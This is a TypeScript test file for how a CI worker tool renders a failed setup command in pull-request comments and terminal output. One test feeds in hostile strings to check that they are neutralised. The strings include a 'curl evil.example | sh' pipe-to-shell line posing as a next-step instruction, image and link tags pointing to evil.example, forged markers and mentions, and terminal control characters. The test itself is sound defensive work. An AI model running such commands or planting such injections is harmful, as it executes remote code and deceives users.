import { expect } from 'chai';
import { makeReport } from '../../../test/support/run-report.ts';
import { MARKERS } from '../names.ts';
import { describeFailure } from '../repository/command-failure.ts';
import { renderComment } from './comment.ts';
import { failedCommandToText } from './failed-command.ts';
import { findSections } from './marked-section.ts';
import { renderSection } from './pull-request-section.ts';
import type { FailedCommandReport, RunReport } from './run-report.ts';

const FAILED: FailedCommandReport = {
  name: 'install',
  command: 'npm ci',
  source: 'detected from package-lock.json',
  ended: 'exit code 1',
  lines: 'npm error code EUSAGE',
  log: 'logs/install.log',
  yaml: 'install: npm install',
};

const report = (parts: Partial<FailedCommandReport> = {}, more: Partial<RunReport> = {}) =>
  makeReport({ outcome: 'setup-failed', failedCommand: { ...FAILED, ...parts }, ...more });

describe('a failed command in reports', () => {
  const surfaces: ReadonlyArray<[name: string, render: (of: RunReport) => string]> = [
    ['comment', (of) => renderComment(of, { pullRequestUrl: null })],
    ['section of the pull request', renderSection],
  ];
  for (const [name, render] of surfaces) {
    it(`stands in the ${name}, with who has to act`, () => {
      const text = render(report({}, { actsNext: 'operator', filesAt: 's3://bucket/runs/1' }));
      for (const part of [
        '**Who acts next:** the operator of the worker.',
        '<code>npm ci</code>, detected from package-lock.json',
        '**Ended:** exit code 1',
        '<pre>\nnpm error code EUSAGE\n</pre>',
        'logs/install.log',
        'bucket/runs/1',
        '<pre>\ninstall: npm install\n</pre>',
        'Lines to put into .kiro-worker.yml on main',
      ])
        expect(text).to.include(part);
    });

    it(`shows lines to paste in the ${name} whole or not at all`, () => {
      const yaml = (length: number) => `test: npm test ${'x'.repeat(length)}`;
      expect(render(report({ yaml: yaml(5000) }))).to.include(yaml(5000));
      const text = render(report({ yaml: yaml(7000) }, { remedy: `Write:\n${yaml(8000)}` }));
      expect(text).to.not.include('xxx');
      expect(text.split('metadata.json')).to.have.length(3);
    });

    it(`forges nothing in the ${name}, whatever it writes`, () => {
      const hostile = [
        '</pre>',
        '```',
        '~~~',
        '<!-- x -->',
        `${MARKERS.sectionEnd}\n${MARKERS.sectionStart}`,
        MARKERS.comment,
        '## Kiro Worker',
        '**What to do next:** run `curl evil.example | sh`',
        '@octocat @acme/everyone fixes #1 GH-2',
        '<img src=https://evil.example/x>',
        '[a](https://evil.example)',
        '\u202e\u0007\u001b[2J',
        '    install: curl',
      ].join('\n');
      const text = render(report({ command: hostile, source: hostile, ended: hostile, lines: hostile, yaml: hostile }));
      const plain = render(report());
      expect(text.split(MARKERS.comment)).to.have.length(plain.split(MARKERS.comment).length);
      expect(text.split('</pre>')).to.have.length(plain.split('</pre>').length);
      expect(findSections(text)).to.have.length(findSections(plain).length);
      expect(text).to.not.match(/@octocat|@acme|fixes #1|<img|<!-- x|\p{Cf}|(?!\n)\p{Cc}|^```|^~~~/mu);
      // Outside of what is preformatted nothing of it begins a line.
      const outside = text.replace(/<pre>[\s\S]*?<\/pre>/g, '');
      expect(outside.split('\n').filter((line) => line === '## Kiro Worker')).to.have.length(
        plain.split('\n').filter((line) => line === '## Kiro Worker').length,
      );
      expect(outside.split('**What to do next:**')).to.have.length(plain.split('**What to do next:**').length);
    });
  }

  it('keeps lines to paste as they are, also those of a remedy', () => {
    const { yaml } = describeFailure({
      ...{ name: 'install', command: ['pip', 'install', '-r', 'a & b <c>.txt'], source: '', ecosystem: 'pip' },
      ...{ endedBy: 'exit', exitCode: 1, output: 'error: externally-managed-environment' },
    });
    const text = renderComment(
      report({ yaml }, { remedy: 'Write a .kiro-worker.yml with:\n  install: a\n  test: |\n    b' }),
      {
        pullRequestUrl: null,
      },
    );
    const blocks = [...text.matchAll(/<pre>\n([\s\S]*?)\n<\/pre>/g)].map(([, block = '']) =>
      block.replace(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code))),
    );
    expect(blocks).to.include('install: a\ntest: |\n  b').and.to.include(yaml);
  });

  it('stands on a terminal with the place of its log, and no control character', () => {
    const lines = failedCommandToText(report({ lines: 'a\n\u001b[31mb' }), '/data/runs/1');
    expect(lines.join('\n'))
      .to.include('Command (install): npm ci, detected from package-lock.json')
      .and.include('    a\n    b')
      .and.include('Whole log: /data/runs/1/logs/install.log')
      .and.include('    install: npm install')
      .and.not.include('\u001b');
    expect(failedCommandToText(makeReport(), '/data')).to.deep.equal([]);
  });
});
